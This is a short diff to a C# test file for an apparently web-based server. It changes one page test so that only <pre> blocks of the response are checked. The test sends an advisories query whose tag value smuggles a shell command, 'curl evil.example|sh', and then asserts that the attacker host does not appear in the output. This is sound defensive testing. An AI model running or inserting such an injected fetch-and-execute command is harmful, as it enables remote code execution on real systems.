@@ -1,7 +1,9 @@
 using System.Net;
+using System.Text.RegularExpressions;
 using Bunit;
 using Skyline.Protocol;
 using Skyline.Server.Builds;
+using Skyline.Server.Finding;
 using Skyline.Server.Shell;
 using Skyline.Server.Tests.Tags;
 
@@ -113,7 +115,7 @@ public sealed class PageTests
     {
         await using var site = await Site.Open();
 
-        var strange = await site.Http().GetStringAsync("/advisories?tag=x;curl+evil.example|sh;", Ct);
+        var strange = string.Concat(Regex.Matches(await site.Http().GetStringAsync("/advisories?tag=x;curl+evil.example|sh;", Ct), "<pre.*?</pre>", RegexOptions.Singleline).Select(lines => lines.Value));
         var known = await site.Http().GetStringAsync("/advisories?tag=paper", Ct);
 
         Assert.DoesNotContain("evil.example", strange);
